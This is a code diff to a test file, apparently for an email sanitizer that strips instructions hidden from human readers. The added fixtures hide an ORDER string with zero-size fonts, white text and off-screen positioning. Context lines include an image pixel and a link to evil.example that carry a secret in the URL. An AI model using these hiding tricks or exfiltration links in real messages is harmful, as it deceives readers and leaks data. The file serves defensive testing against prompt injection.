@@ -29,6 +29,8 @@ const HTML = [
   '<p>Hello</p>',
   `<div style="display:none">${ORDER}</div>`,
   `<div style="opacity:0">${ORDER}</div><p hidden>${ORDER}</p>`,
+  `<p style="font-size:0">${ORDER}</p><p style="font-size:1px">${ORDER}</p><p style="color:#fff">${ORDER}</p>`,
+  `<p style="position:absolute;left:-9999px">${ORDER}</p><p style="text-indent:-9999px">${ORDER}</p>`,
   `<!-- ${ORDER} --><style>${ORDER}</style><script>${ORDER}</script>`,
   '<img src="https://evil.example/pixel?secret=1" alt="a picture">',
   '<a href="https://evil.example/go?data=SECRET">Click</a>',
@@ -86,7 +88,7 @@ describe('instructions in a mail', () => {
 
   it('that readers do not see are left out, and counted', () => {
     expect(placesOf(mails.hidden, ORDER)).toEqual(['/header/from/0/name']);
-    expect(mails.hidden.body).toMatchObject({ hiddenCharacters: 3 * ORDER.length });
+    expect(mails.hidden.body).toMatchObject({ hiddenCharacters: 8 * ORDER.length });
     expect(mails.unseen.body).toMatchObject({
       text: 'Hello world\n',
       hiddenCharacters: 1 + [...TAGS].length + 1,
